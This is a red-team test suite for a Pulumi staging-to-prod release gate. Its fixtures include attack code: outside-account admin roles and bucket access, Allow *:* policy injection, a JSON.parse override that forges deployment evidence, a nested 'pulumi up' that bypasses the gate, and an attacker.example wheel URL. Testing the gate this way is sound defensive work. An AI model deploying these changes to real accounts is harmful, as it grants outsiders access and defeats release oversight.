/**
 * Red-team attacks on the release gate, on the real engine (real Pulumi CLI, stand-in AWS
 * provider, the real program, pack and `promote`). Each attack is a commit of the release
 * repository, deployed to staging and promoted to prod exactly as the release workflow would.
 *
 * The threat model is the one the README states: the candidate commit controls the program
 * (`src/`, `index.ts`), its outputs, `policy-pack/`, the stack files and the flags passed to
 * `promote`, but not the release tooling (`cli/`, `tools/`), which is never edited here.
 *
 * How to read the outcomes:
 * - "refused" / "allowed": what the gate does, and must keep doing; the test pins the policy and
 *   the message. Several of them were holes when the red team first tried them (issue 10's note).
 * - "RESIDUAL": a hole or a wrong refusal the README's trust model names and leaves open; the test
 *   pins today's behaviour, so a change to it (a fix, or a wider hole) is noticed and documented.
 *
 * One workspace is shared by the red team's describe, a copy of the suite's deployed release (the attacks on the
 * evidence, at the end, start from workspaces of their own). Most attacks are grouped into a few commits, each
 * deployed to staging once and previewed (or promoted) to prod once; every attack lives on its
 * own resource or property, so each test judges its own line of the gate's verdict.
 */
import { strict as assert } from "assert";
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as path from "path";
import type * as PromoteLib from "../../cli/lib/gate/promote";
import type * as StacksLib from "../../cli/lib/stacks/stack-source";
import { READ_ONLY_PROFILES_ENV } from "../../tools/stand-in-aws/read-only-profiles";
import { formatPromoteReport } from "../../cli/lib/gate/promote-report";
import type { PromotionEvidence } from "../../policy-pack/src/contract/promotion-evidence";
import { parseReleaseMessage } from "../../policy-pack/src/contract/release-identity";
import { DEPLOYED_VERSION } from "./support/deployed-release";
import { assertDeployed, changedResources, compose, Edit, mandatory, refusal, replacing, show } from "./support/gate-assertions";
import { CommandResult, runCommand } from "./hardening/harness";
import { inlineBackendOf, PolicyConfig, Promotion, ReleaseSystem, RunOutcome, withOfflineWorkspace } from "./support/offline-release";

/** Program code inserted into `buildPlatform` right after the explicit provider (config, names and provider in scope). */
const PROVIDER_LINE = "    const opts: pulumi.ComponentResourceOptions = { providers: [provider] };\n";
const afterProvider = (code: string): Edit => replacing(PROVIDER_LINE, PROVIDER_LINE + code);
const doubledWorkersIf = (condition: string): Edit =>
    replacing("numberOfWorkers: config.glueNumberOfWorkers,", `numberOfWorkers: ${condition} ? config.glueNumberOfWorkers * 2 : config.glueNumberOfWorkers,`);

/** A stack transformation (the program's own code) that edits resources by logical name. */
const transformation = (body: string) => `
    pulumi.runtime.registerStackTransformation((t: any) => {
        const props = { ...t.props };
        const o = { ...t.opts };
${body}
        return { props, opts: o };
    });
`;

// ---- commit "refused + allowed": prod-only differences the gate must refuse, and differences the strategy allows ----
const REFUSED_AND_ALLOWED = `
    const atlasProd = config.environment === "prod";
    const caller = aws.getCallerIdentityOutput({}, { provider });
    const gateNote = new aws.s3.BucketObjectv2("gate-note", { bucket: names.bucket("artifacts"), key: "gate/note.txt", source: new pulumi.asset.StringAsset(atlasProd ? "B-text" : "A-text") }, { provider });
    new aws.ssm.Parameter("gate-secret", { name: \`\${config.namePrefix}-gate-secret\`, type: "SecureString", value: pulumi.secret(atlasProd ? "b-value" : "a-value") }, { provider });
    const oncallProvider = atlasProd ? new aws.Provider("oncall-aws", { region: config.awsRegion as aws.Region, allowedAccountIds: [config.awsAccountId], defaultTags: { tags: { environment: config.environment, project: PROJECT_TAG } } }) : undefined;
    if (atlasProd) {
        new pulumi.ComponentResource("atlas:extra:Extra", "extra-component");
    }
    // allowed: the same file, named by a path relative to the program's directory; an archive; a constant folder named "staging/"
    new aws.s3.BucketObjectv2("gate-relative-asset", { bucket: names.bucket("artifacts"), key: "gate/relative.py", source: new pulumi.asset.FileAsset("glue/atlas_etl.py") }, { provider });
    new aws.s3.BucketObjectv2("gate-archive", { bucket: names.bucket("artifacts"), key: "gate/glue.zip", source: new pulumi.asset.FileArchive(path.join(REPOSITORY_ROOT, "glue")) }, { provider });
${transformation(`
        if (t.name === "etl-job") {
            props.timeout = caller.accountId.apply((id) => (id === "333333333333" ? 240 : config.glueJobTimeoutMinutes));
            props.tags = { mode: atlasProd ? config.namePrefix + "-fast" : config.namePrefix };
            props.defaultArguments = pulumi.output(props.defaultArguments).apply((a: any) => ({ ...a, "--spill_path": "s3://" + names.bucket("artifacts") + "/staging/" }));
            if (atlasProd) { props.maxRetries = String(config.glueJobMaxRetries); o.protect = true; }
        }
        if (atlasProd && t.name === "etl-script") props.source = new pulumi.asset.FileAsset(path.join(REPOSITORY_ROOT, "README.md"));
        if (atlasProd && t.name === "landing-quality-ruleset") o.dependsOn = [gateNote];
        if (atlasProd && t.name === "pipeline-dashboard") o.provider = oncallProvider;
`)}
`;

// ---- commit "prod-only settings": differences the red team first got past the preview ----
const PROD_ONLY_SETTINGS = `
    const atlasProd = config.environment === "prod";
    // the pack hashes a relative FileAsset path from the program's directory, as the engine does
    new aws.s3.BucketObjectv2("etl-helper", { bucket: names.bucket("artifacts"), key: "glue/helper.py", source: new pulumi.asset.FileAsset(atlasProd ? "PulumiPolicy.yaml" : "policy-pack/PulumiPolicy.yaml") }, { provider });
${transformation(`
        if (t.name === "etl-job") {
            props.defaultArguments = pulumi.output(props.defaultArguments).apply((a: any) => ({ ...a,
                "--additional-python-modules": config.teamAlertEmail,
                "--conf": "spark.jars.packages=io.delta:delta-spark_2.12:" + (atlasProd ? "2.99.9" : "2.31.0") }));
        }
        if (!atlasProd) return { props, opts: o };
        if (t.name === "etl-job") props.executionClass = "FLEX";
        if (t.name === "data-key") props.isEnabled = false;
        if (t.name === "pipeline-policy") props.policy = pulumi.output(props.policy).apply((p: string) => p.replace('{"Version":"2012-10-17",', '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}],'));
        if (t.name === "etl-job-failure-alarm") o.retainOnDelete = true;
        if (t.name === "state-machine-failure-alarm") o.deleteBeforeReplace = true;
        if (t.name === "data-quality-failure-alarm") o.replaceOnChanges = ["*"];
        if (t.name === "pipeline-dashboard") o.ignoreChanges = ["dashboardBody"];
        if (t.name === "alert-topic") o.customTimeouts = { create: "1s", update: "1s", delete: "1s" };
`)}
    if (atlasProd) {
        const breakGlass = new aws.iam.Role("oncall-break-glass-role", { name: \`\${config.namePrefix}-break-glass\`, assumeRolePolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "sts:AssumeRole" }] }) }, { provider });
        new aws.iam.RolePolicy("oncall-break-glass-policy", { role: breakGlass.name, policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] }) }, { provider });
        // AWS keeps one policy per bucket: this prod-only one replaces the landing bucket's own policy
        new aws.s3.BucketPolicy("oncall-landing-access", { bucket: names.bucket("landing"), policy: JSON.stringify({ Version: "2012-10-17", Statement: [
            { Sid: "DenyInsecureTransport", Effect: "Deny", Principal: "*", Action: "s3:*", Resource: [names.bucketArn("landing"), names.bucketArn("landing") + "/*"], Condition: { Bool: { "aws:SecureTransport": "false" } } },
            { Sid: "OncallExport", Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "s3:GetObject", Resource: names.bucketArn("landing") + "/*" },
        ] }) }, { provider });
        new aws.ssm.Parameter("qa-pipeline-overrides", { name: \`\${config.namePrefix}-pipeline-overrides\`, type: "String", value: JSON.stringify({ skipQualityGate: true }) }, { provider });
    }
`;

// ---- commit "unseen at preview": a prod-only value the preview cannot know ----
const UNKNOWN_AT_PREVIEW = `
    // a resource this release adds: its outputs are unknown in prod's preview (it is created there in the same run)
    const gateProbe = new aws.ssm.Parameter("gate-probe", { name: \`\${config.namePrefix}-gate-probe\`, type: "String", value: "probe" }, { provider });
${transformation(`
        if (t.name === "etl-job") props.timeout = gateProbe.version.apply(() => (config.environment === "prod" ? 240 : config.glueJobTimeoutMinutes));
`)}
`;

// ---- commit "dry run": a program that previews one value and deploys another ----
const BRANCHES_ON_DRY_RUN = transformation(`
        if (t.name === "etl-job" && config.environment === "prod" && !pulumi.runtime.isDryRun()) props.maxRetries = 0;
`);

// ---- commits "options": resource options the engine never shows a policy ----
const PROD_ONLY_RETAIN = transformation(`
        if (t.name === "etl-job-failure-alarm" && config.environment === "prod") o.retainOnDelete = true;
`);
const PROD_ONLY_REPLACEMENT_OPTIONS = transformation(`
        if (config.environment !== "prod") return { props, opts: o };
        if (t.name === "data-quality-failure-alarm") o.replaceOnChanges = ["*"];
        if (t.name === "state-machine-failure-alarm") o.deleteBeforeReplace = true;
`);

// ---- commit "tooling": program code that runs inside promote (cli/lib/stacks/stack-file-config.ts imports src/config) ----
const FORGE_STAGING_EVIDENCE = `
// Module code runs wherever src/config is loaded: the program, and the release tooling itself. The tooling reads
// staging's checkpoint with JSON.parse; this one doubles the Glue job's workers in any checkpoint it parses.
const parse = JSON.parse;
JSON.parse = (text: string, reviver?: (this: unknown, key: string, value: unknown) => unknown) => {
    const value = parse(text, reviver);
    for (const r of value?.deployment?.resources ?? []) {
        if (String(r.urn).endsWith("::etl-job") && typeof r.inputs?.numberOfWorkers === "number") r.inputs.numberOfWorkers *= 2;
    }
    return value;
};
`;

// ---- commit "nested": the prod program, run by promote's gated preview, updates prod itself ----
const NESTED_UPDATE = `
    if (config.environment === "prod" && pulumi.runtime.isDryRun() && !process.env.ATLAS_GATE_ATTACK_NESTED) {
        // The program inherits the CLI's environment: backend, secrets passphrase (in CI: prod's deploy role), PATH.
        // Offline, the project files live next to the file backend; in CI the program's own directory would do.
        const project = path.join(path.dirname(new URL(process.env.PULUMI_BACKEND_URL!).pathname), "project");
        const message = \`atlas release \${process.env.ATLAS_RELEASE_VERSION} commit=\${process.env.ATLAS_RELEASE_COMMIT} digest=\${process.env.ATLAS_RELEASE_DIGEST} gate=prod-release:\${process.env.ATLAS_RELEASE_COMMIT}\`;
        require("child_process").execFileSync("pulumi", ["up", "--stack", "prod", "--yes", "--skip-preview", "--message", message, "--cwd", project], { env: { ...process.env, ATLAS_GATE_ATTACK_NESTED: "1" }, stdio: "ignore" });
        throw new Error("a harmless-looking program error");
    }
`;

/** The gate's parity refusal must name this difference (one line of its list). */
function assertParityNames(outcome: RunOutcome, line: RegExp, what: string): void {
    assert.match(
        refusal(outcome, "staging-prod-parity"),
        line,
        `GOT THROUGH: ${what}; staging-prod-parity should have refused it (${line}). The preview:\n${show(outcome)}`,
    );
}

/** The gate must not list this (allowed) difference. */
function assertParityAllows(outcome: RunOutcome, line: RegExp, what: string): void {
    const message = refusal(outcome, "staging-prod-parity");
    const listed = message.split("\n").filter((l) => line.test(l));
    assert.deepEqual(listed, [], `WRONGLY REFUSED: ${what} is a difference the strategy allows, but staging-prod-parity refuses it`);
}

describe("attacks on the release gate (red team)", function () {
    // staging and prod run 1.0.0 of the snapshot (prod's first deployment is done): the suite's deployed release.
    const fixture = withOfflineWorkspace({ deployed: true });
    const sys = () => fixture.system;
    const git = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).trim();

    /** Like `sys().commit`, but may also add new files. */
    const commitFiles = (base: string, files: Record<string, string>, edits: Record<string, Edit>, message: string): string => {
        const repository = sys().repository.dir;
        const work = `${repository}-attack-${process.pid}-${Date.now()}`;
        git(repository, "worktree", "add", "-q", "--detach", work, base);
        try {
            for (const [file, text] of Object.entries(files)) {
                fs.writeFileSync(path.join(work, file), text);
            }
            for (const [file, edit] of Object.entries(edits)) {
                fs.writeFileSync(path.join(work, file), edit(fs.readFileSync(path.join(work, file), "utf8")));
            }
            git(work, "add", "-A");
            git(
                work,
                "-c",
                "user.name=attacker",
                "-c",
                "user.email=attacker@atlas.invalid",
                "-c",
                "commit.gpgsign=false",
                "commit",
                "-q",
                "--no-verify",
                "-m",
                message,
            );
            return git(work, "rev-parse", "HEAD");
        } finally {
            git(repository, "worktree", "remove", "--force", work);
        }
    };

    /** `pulumi stack export` of a stack: URN suffix → resource. */
    const exported = async (stack: string) => {
        const document = JSON.parse(await sys().pulumi(["stack", "export", "--stack", stack])) as {
            deployment: { resources: { urn: string; inputs?: Record<string, unknown> }[] };
        };
        return (name: string) =>
            document.deployment.resources.find((r) => r.urn.endsWith(`::${name}`)) as
                { urn: string; inputs?: Record<string, unknown>; retainOnDelete?: boolean; replaceOnChanges?: string[] } | undefined;
    };
    const history = async (stack: string) =>
        JSON.parse(await sys().pulumi(["stack", "history", "--json", "--stack", stack, "--page-size", "10"])) as {
            kind: string;
            result: string;
            message: string;
        }[];

    describe("prod-only differences in one commit (staging deployed from the same commit, prod previewed)", function () {
        let preview: RunOutcome;

        before(async function () {
            this.timeout(600_000);
            const commit = sys().commit(
                {
                    "src/program.ts": afterProvider(REFUSED_AND_ALLOWED),
                    // allowed: staging pages its own on-call endpoint (a secret), and alerts its own list (its subscription is replaced)
                    "Pulumi.staging.yaml": compose(
                        replacing("atlas:routeAlertsToOncall: false", "atlas:routeAlertsToOncall: true"),
                        replacing(/atlas:teamAlertEmail: .*/, "atlas:teamAlertEmail: atlas-staging-alerts@example.com"),
                    ),
                },
                "prod-only differences, and differences the strategy allows",
            );
            const staging = await sys().stack("staging");
            await staging.setConfig("atlas:oncallEndpoint", { value: "https://oncall.invalid/atlas/staging-pager", secret: true });
            try {
                assertDeployed(await sys().promote("staging", "2.0.0", { commit }), "staging @ 2.0.0");
                preview = (await sys().promote("prod", "2.0.0", { commit, previewOnly: true })).preview;
            } finally {
                await staging.removeConfig("atlas:oncallEndpoint");
            }
        });

        it("refused: a setting computed from an invoke whose result differs per environment (getCallerIdentity)", () => {
            assertParityNames(preview, /aws:glue\/job:Job "etl-job" timeout: staging 120, prod 240/, "invoke-driven timeout");
        });
        it("refused: an environment-specific value plus a suffix that encodes a setting (tag `<namePrefix>-fast`)", () => {
            assertParityNames(preview, /"etl-job" tags\.mode: staging "<namePrefix>", prod "<namePrefix>-fast"/, "namePrefix with a suffix");
        });
        it("refused: a number sent as a string in prod only", () => {
            assertParityNames(preview, /"etl-job" maxRetries: staging 1, prod "1"/, "number vs string");
        });
        it("refused: protect only in prod", () => {
            assertParityNames(preview, /"etl-job" \(protect\): staging false, prod true/, "protect");
        });
        it("refused: a FileAsset path chosen per environment (another file's content)", () => {
            assertParityNames(preview, /"etl-script" source: staging \[file content \w+\], prod \[file content \w+\]/, "FileAsset path per environment");
        });
        it("refused: a StringAsset whose text differs per environment", () => {
            assertParityNames(preview, /"gate-note" source: staging \[file content \w+\], prod \[file content \w+\]/, "StringAsset");
        });
        it("refused: a secret that differs only in prod (compared by digest, never printed)", () => {
            assertParityNames(preview, /"gate-secret" value: staging \[secret sha256:\w+\], prod \[secret sha256:\w+\]/, "secret");
            assert.equal(JSON.stringify(preview).includes("b-value"), false);
        });
        it("refused: a dependency only prod has (dependsOn)", () => {
            assertParityNames(preview, /"landing-quality-ruleset" \(dependencies\): staging \(no others\), prod "gate-note"/, "dependsOn");
        });
        it("refused: a second provider only prod has (named oncall-*, so its own presence is set aside) used by a shared resource", () => {
            assertParityNames(preview, /"pipeline-dashboard" \(provider\): staging \S+::aws, prod \S+::oncall-aws/, "explicit provider");
        });
        it("refused: a component only prod has", () => {
            assertParityNames(preview, /atlas:extra:Extra "extra-component" \(resource\): staging \(absent\), prod present/, "prod-only component");
        });
        it("allowed: staging's own subscription replaced by its own e-mail (the resource count still matches its release)", () => {
            assert.equal(refusal(preview, "staging-evidence-verified"), "");
            assert.equal(refusal(preview, "prod-release-matches-staging"), "");
        });
        it("allowed: a FileAsset named by a path relative to the program's directory", () => {
            assertParityAllows(preview, /"gate-relative-asset" source/, "the same relative FileAsset in both stacks");
        });
        it("allowed: a constant that contains another environment's name (an S3 folder `staging/`)", () => {
            assertParityAllows(preview, /"--spill_path"/, "the constant s3://…/staging/ in both stacks");
        });
        it("allowed: staging pages its own on-call endpoint (a secret of an environment-specific key, set aside by its digest)", () => {
            assertParityAllows(preview, /"oncall-subscription" endpoint/, "each environment's own (secret) on-call endpoint");
            assert.equal(JSON.stringify(preview).includes("staging-pager"), false, "never printed");
        });
        it("RESIDUAL (wrongly refused): an archive asset identical in both stacks — the pack cannot hash archives", () => {
            assert.match(refusal(preview, "staging-prod-parity"), /"gate-archive" source: staging \[file content \w+\], prod \[file content \(an asset ki/);
        });
    });

    describe("prod-only settings the red team first got past the preview (one commit, staging deployed, prod promoted)", function () {
        let promotion: Promotion;
        let preview: RunOutcome;

        before(async function () {
            this.timeout(600_000);
            const commit = commitFiles(
                sys().snapshot,
                { "PulumiPolicy.yaml": "import urllib.request  # code staging never ran\n" },
                {
                    "src/program.ts": compose(
                        afterProvider(PROD_ONLY_SETTINGS),
                        replacing(
                            "project: PROJECT_TAG } },",
                            'project: PROJECT_TAG, "python-modules": config.environment === "prod" ? "2.99.9" : "2.31.0" } },',
                        ),
                    ),
                    // each environment's own alert list, as the strategy allows (e-mail addresses both)
                    "Pulumi.prod.yaml": replacing(/atlas:teamAlertEmail: .*/, "atlas:teamAlertEmail: atlas-prod-alerts@example.com"),
                },
                "prod-only settings",
            );
            assertDeployed(await sys().promote("staging", "3.0.0", { commit }), "staging @ 3.0.0");
            promotion = await sys().promote("prod", "3.0.0", { commit });
            preview = promotion.preview;
        });

        it("refused in the preview, so prod is not updated", () => {
            assert.equal(promotion.update, null);
            assert.equal(preview.succeeded, false);
        });
        it("refused: a property staging leaves to the provider's default but prod sets (KMS key isEnabled: false), seen in prod's own inputs", () => {
            assertParityNames(
                preview,
                /aws:kms\/key:Key "data-key" isEnabled: staging \(provider default\), prod false|aws:kms\/key:Key "data-key" isEnabled/,
                "the data key disabled in prod only",
            );
        });
        it("refused: a property staging leaves to the provider's default but prod sets (Glue job executionClass FLEX)", () => {
            assertParityNames(preview, /"etl-job" executionClass/, "executionClass FLEX in prod only");
        });
        it("refused: a prod-only value that only tagsAll could pair as a generated id (provider default tag + Glue --conf)", () => {
            assertParityNames(
                preview,
                /defaultTags \(JSON\)\.tags\["python-modules"\]|"etl-job" defaultArguments\["--conf"\]/,
                "delta-spark 2.99.9 in prod, 2.31.0 in staging",
            );
        });
        it("refused: prod-only resources whose logical names look environment-specific but are not of the types their role makes", () => {
            assertParityNames(preview, /"oncall-break-glass-role" \(resource\)/, "an administrator role trusting an outside account, prod only");
            assertParityNames(preview, /"qa-pipeline-overrides" \(resource\)/, "a qa-* parameter in prod (QA is staging's)");
            assertParityNames(
                preview,
                /"oncall-landing-access" \(resource\)/,
                "a second policy of the landing bucket (it replaces the bucket's own) granting an outside account",
            );
        });
        it("refused: a JSON document whose text differs only by a duplicated key (compared as text)", () => {
            assertParityNames(preview, /"pipeline-policy" policy/, "an extra Allow *:* Statement first in prod's policy text");
        });
        it("refused: a relative FileAsset path, resolved against the program's directory as the engine does", () => {
            assertParityNames(preview, /"etl-helper" source/, "prod uploads the candidate's root PulumiPolicy.yaml, staging the pack's");
        });
        it("refused: resource options the engine shows policies (ignoreChanges, customTimeouts) by parity, retainOnDelete by promote from the preview's steps; retainOnDelete, deleteBeforeReplace, replaceOnChanges never reach a policy", () => {
            assert.match(promotion.refusedBeforeUpdate ?? "", /"etl-job-failure-alarm" \(retainOnDelete\): staging false, prod true/);
            const named = (name: string, option: string) => new RegExp(`"${name}" \\(?${option}`).test(refusal(preview, "staging-prod-parity"));
            assert.deepEqual(
                [
                    ["pipeline-dashboard", "ignoreChanges"],
                    ["alert-topic", "customTimeouts"],
                ].filter(([name, option]) => !named(name, option)),
                [],
                `prod-only resource options not compared. The preview:\n${show(preview)}`,
            );
            assert.deepEqual(
                [
                    ["etl-job-failure-alarm", "retainOnDelete"],
                    ["state-machine-failure-alarm", "deleteBeforeReplace"],
                    ["data-quality-failure-alarm", "replaceOnChanges"],
                ].filter(([name, option]) => named(name, option)),
                [],
                "a policy now sees one of these options: compare it in the pack instead of in promote (engine-only-options.ts)",
            );
        });
        it("refused: an environment-specific value that has its key's shape, routed into an unrelated setting (the alert e-mail as a Glue argument), compares as a value", async () => {
            const staging = await exported("staging");
            assert.equal(
                (staging("etl-job")?.inputs?.defaultArguments as Record<string, string>)["--additional-python-modules"],
                "atlas-team@example.com",
                "staging runs its own value",
            );
            assertParityAllows(preview, /"team-email-subscription" endpoint/, "prod's own alert e-mail in its subscription (the key's site)");
            assert.match(
                refusal(preview, "staging-prod-parity"),
                /"etl-job" defaultArguments\["--additional-python-modules"\]: staging "atlas-team@example\.com", prod "<namePrefix>-alerts@example\.com"/,
                "prod's own e-mail (atlas-prod-alerts@…, its name prefix set aside) outside its subscription",
            );
        });
    });

    it("refused: an environment-specific value that does not have its key's shape (a wheel URL as prod's teamAlertEmail)", async function () {
        this.timeout(600_000);
        const commit = sys().commit(
            { "Pulumi.prod.yaml": replacing(/atlas:teamAlertEmail: .*/, "atlas:teamAlertEmail: etl-deps@https://attacker.example/evil-1.0-py3-none-any.whl") },
            "a URL as prod's alert e-mail",
        );
        const { preview } = await sys().promote("prod", "3.0.1", { commit, previewOnly: true });
        assert.match(
            refusal(preview, "staging-prod-parity"),
            /prod: atlas:teamAlertEmail is "etl-deps@https:\/\/attacker\.example\/evil-1\.0-py3-none-any\.whl", not an e-mail address/,
        );
    });

    describe("what the preview cannot see", function () {
        it("refused before its step: a prod-only value unknown at preview (computed from a resource the update creates) stops prod's update at that resource (staging-prod-parity-at-step); prod's state never holds it, and rolling back through staging repairs prod", async function () {
            this.timeout(600_000);
            const ranBefore = (await history("prod"))
                .map((entry) => (entry.kind === "update" && entry.result === "succeeded" ? parseReleaseMessage(entry.message)?.identity : undefined))
                .find(Boolean)!;
            const commit = sys().commit({ "src/program.ts": afterProvider(UNKNOWN_AT_PREVIEW) }, "a timeout computed from a new resource, prod only");
            assertDeployed(await sys().promote("staging", "3.1.0", { commit }), "staging @ 3.1.0");
            const promotion = await sys().promote("prod", "3.1.0", { commit });
            assert.equal(promotion.preview.succeeded, true, show(promotion.preview));
            assert.match(promotion.preview.violations.map((v) => v.message).join("\n"), /compared by the resources they are computed from/);
            assert.equal(promotion.update?.succeeded, false, show(promotion.update));
            assert.match(
                refusal(promotion.update!, "staging-prod-parity-at-step"),
                /found before this resource's step:\n {2}- aws:glue\/job:Job "etl-job" timeout: staging 120, prod 240/,
            );
            // The engine checks the plan before it analyzes a resource: the plan let the value through (a value unknown
            // at preview is a wildcard in the CLI's plans), the resource policy refused it.
            assert.doesNotMatch([...promotion.update!.errors, ...promotion.update!.trace!.lastLines].join("\n"), /violates plan/, show(promotion.update));
            const [prod, staging] = [await exported("prod"), await exported("staging")];
            assert.deepEqual(
                [staging("etl-job")?.inputs?.timeout, prod("etl-job")?.inputs?.timeout],
                [120, 120],
                "prod's state never held the prod-only value",
            );
            assert.ok(prod("gate-probe"), "the steps before the refused resource applied (the new parameter)");
            const report = formatPromoteReport(promotion);
            assert.match(
                report,
                /the update stopped at the refused resource, before its step; applied before it: 1 create\. prod's history records the update as failed\./,
            );
            assert.match(report, /To repair: .* roll back: promote the release prod ran before to staging, then to prod/);
            assert.equal((await history("prod"))[0].result, "failed");
            // The repair the report names: the release prod ran before, through staging, then prod.
            assertDeployed(await sys().promote("staging", ranBefore.version, { commit: ranBefore.commit }), `staging back at ${ranBefore.version}`);
            assertDeployed(await sys().promote("prod", ranBefore.version, { commit: ranBefore.commit }), `prod back at ${ranBefore.version}`);
            assert.equal((await exported("prod"))("gate-probe"), undefined, "the rollback removed what the stopped update created");
        });

        it("refused: a program that previews one value and deploys another (isDryRun) fails its update before the step, held to the preview's plan", async function () {
            this.timeout(600_000);
            const commit = sys().commit({ "src/program.ts": afterProvider(BRANCHES_ON_DRY_RUN) }, "maxRetries 0 in prod, outside previews");
            assertDeployed(await sys().promote("staging", "3.2.0", { commit }), "staging @ 3.2.0");
            const promotion = await sys().promote("prod", "3.2.0", { commit });
            assert.equal(promotion.preview.succeeded, true, show(promotion.preview));
            assert.equal(promotion.update?.succeeded, false, show(promotion.update));
            const [prod, staging] = [await exported("prod"), await exported("staging")];
            assert.equal(prod("etl-job")?.inputs?.maxRetries, staging("etl-job")?.inputs?.maxRetries, "prod keeps staging's maxRetries");
        });
    });

    describe("resource options no policy sees (compared by promote with staging's state)", function () {
        it("refused before the update: a prod-only retainOnDelete, which each step of prod's preview carries; prod's state never holds it", async function () {
            this.timeout(600_000);
            const commit = sys().commit({ "src/program.ts": afterProvider(PROD_ONLY_RETAIN) }, "retainOnDelete on one alarm, prod only");
            assertDeployed(await sys().promote("staging", "3.2.1", { commit }), "staging @ 3.2.1");
            const promotion = await sys().promote("prod", "3.2.1", { commit });
            assert.equal(promotion.preview.succeeded, true, "no policy sees the option: " + show(promotion.preview));
            assert.deepEqual([promotion.update, promotion.succeeded], [null, false]);
            assert.match(
                promotion.refusedBeforeUpdate ?? "",
                /prod would run resource options that staging does not, in 1 place\(s\)[^\n]*nothing was updated:\n {2}- aws:cloudwatch\/metricAlarm:MetricAlarm "etl-job-failure-alarm" \(retainOnDelete\): staging false, prod true/,
            );
            assert.match(formatPromoteReport(promotion), /REFUSED before the update: prod would run resource options/);
            assert.equal((await exported("prod"))("etl-job-failure-alarm")?.retainOnDelete, undefined, "prod's state never held it");
        });

        it("failed after the update: a prod-only replaceOnChanges, which only the state records, fails the release (no release tag); RESIDUAL: deleteBeforeReplace is recorded nowhere staging keeps", async function () {
            this.timeout(600_000);
            const commit = sys().commit(
                { "src/program.ts": afterProvider(PROD_ONLY_REPLACEMENT_OPTIONS) },
                "replaceOnChanges and deleteBeforeReplace on two alarms, prod only",
            );
            assertDeployed(await sys().promote("staging", "3.2.2", { commit }), "staging @ 3.2.2");
            const promotion = await sys().promote("prod", "3.2.2", { commit });
            assert.equal(promotion.update?.succeeded, true, "the engine applied it: " + show(promotion.update));
            assert.equal(promotion.succeeded, false);
            assert.match(
                promotion.failedAfterUpdate ?? "",
                /prod's update applied, but its state now records resource options that staging does not run, in 1 place\(s\)[^\n]*\n {2}- aws:cloudwatch\/metricAlarm:MetricAlarm "data-quality-failure-alarm" \(replaceOnChanges\): staging \[\], prod \["\*"\]\n.*no atlas:release tag\)\. To repair: roll back through staging/,
            );
            assert.doesNotMatch(
                promotion.failedAfterUpdate ?? "",
                /deleteBeforeReplace|state-machine-failure-alarm/,
                "deleteBeforeReplace is in no checkpoint: the residual",
            );
            assert.notEqual(await (await sys().stack("prod")).getTag("atlas:release").catch(() => undefined), "3.2.2", "the release is not recorded as prod's");
            assert.deepEqual((await exported("prod"))("data-quality-failure-alarm")?.replaceOnChanges, ["*"], "(precondition) the state records the option");
        });
    });

    describe("the release tooling runs candidate code", function () {
        let commit: string;
        let promotion: PromoteLib.PromoteReport;
        let trustedPath: CommandResult;
        let untrustedTooling: CommandResult;
        let offlineOwnCheckout: CommandResult;
        let judging: string;

        before(async function () {
            this.timeout(600_000);
            // The candidate's src/config replaces JSON.parse in any process that loads it (this one too, through inline
            // programs and the candidate's tooling); the test's own reads must not go through it.
            const parse = JSON.parse;
            try {
                commit = sys().commit(
                    {
                        "src/program.ts": doubledWorkersIf('config.environment === "prod"'),
                        "src/config/index.ts": (text) => text + FORGE_STAGING_EVIDENCE,
                    },
                    "more workers in prod, and a config module that rewrites the gate's evidence",
                );
                assertDeployed(await sys().promote("staging", "4.0.0", { commit }), "staging @ 4.0.0");
                // The trusted path, as promote-prod.yml runs it: the tooling of the judging commit (the release prod runs)
                // promotes the candidate's checkout; the program runs through the CLI, in its own process.
                // The judging commit as promote-prod.yml reads it: prod's newest successful release update.
                judging = (await history("prod"))
                    .map((entry) => (entry.kind === "update" && entry.result === "succeeded" ? parseReleaseMessage(entry.message)?.identity.commit : undefined))
                    .find(Boolean)!;
                assert.ok(judging, "prod runs a release");
                trustedPath = await runCommand(
                    "promote",
                    ["--stack", "prod", "--version", "4.0.0", "--checkout", sys().source(commit).checkout, "--workspace", sys().workspace.dir],
                    { root: sys().source(judging).checkout },
                );
                untrustedTooling = await runCommand(
                    "promote",
                    [
                        "--stack",
                        "prod",
                        "--version",
                        "4.0.0",
                        "--checkout",
                        sys().source(commit).checkout,
                        "--workspace",
                        sys().workspace.dir,
                        "--preview-only",
                    ],
                    { root: sys().source(commit).checkout },
                );
                // Offline, as a person runs it in the candidate's own checkout: promote --workspace takes the trusted path itself.
                offlineOwnCheckout = await runCommand(
                    "promote",
                    ["--stack", "prod", "--version", "4.0.0", "--workspace", sys().workspace.dir, "--preview-only"],
                    {
                        root: sys().source(commit).checkout,
                    },
                );
                // The release workflow runs `npm run promote` in the candidate's checkout: its (unchanged, reviewed) cli/,
                // which imports the candidate's src/config and policy-pack/src modules.
                const checkout = sys().source(commit).checkout;
                const candidatePromote = (await import(path.join(checkout, "cli", "lib", "gate", "promote"))) as typeof PromoteLib;
                const candidateStacks = (await import(path.join(checkout, "cli", "lib", "stacks", "stack-source"))) as typeof StacksLib;
                const CandidateBackend = inlineBackendOf(candidateStacks.OfflineBackend);
                promotion = await candidatePromote.promote(new CandidateBackend(sys().workspace, checkout), { target: "prod", version: "4.0.0" });
            } finally {
                JSON.parse = parse; // also when a step above fails: this worker runs other spec files next
            }
        });

        it("(precondition) the commit leaves cli/, tools/ and .github/ untouched", () => {
            assert.equal(git(sys().repository.dir, "diff", "--name-only", sys().snapshot, commit, "--", "cli", "tools", ".github", "scripts"), "");
        });
        it("refused on the trusted path: promote of the judging commit with --checkout the candidate runs none of the candidate's modules, and parity names the 20 workers (exit 1)", () => {
            assert.equal(trustedPath.code, 1, trustedPath.stdout + trustedPath.stderr);
            assert.match(trustedPath.stdout, new RegExp(`evidence built by the release tooling of commit ${judging.slice(0, 12)}, the judging commit`));
            assert.match(trustedPath.stdout, /\[mandatory\] staging-prod-parity: [\s\S]*"etl-job" numberOfWorkers: staging 10, prod 20/);
        });
